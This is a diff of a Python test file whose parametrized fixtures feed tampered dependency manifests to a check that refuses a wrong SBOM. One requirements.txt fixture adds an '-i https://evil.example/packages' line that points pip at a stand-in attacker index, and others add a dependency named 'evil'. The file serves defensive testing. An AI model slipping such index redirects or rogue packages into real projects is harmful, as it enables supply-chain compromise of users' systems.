@@ -359,7 +359,7 @@ def test_a_wrong_sbom_is_refused(edit, codes):
     [
         {"requirements.txt": b"django==5.1\nrequests==2.31.0\nflask==3.0.0\n"},
         {"requirements.txt": b"django==5.0\n"},
-        {"requirements.txt": b"django==5.0\nrequests==2.31.0\n-i https://evil.example/simple\n"},
+        {"requirements.txt": b"django==5.0\nrequests==2.31.0\n-i https://evil.example/packages\n"},
         {"pyproject.toml": b'[project]\nname = "p"\ndependencies = ["evil"]\n'},
         {"package.json": b'{"dependencies":{"evil":"^1"}}'},
         {"bun.lock": b"{}\n"},
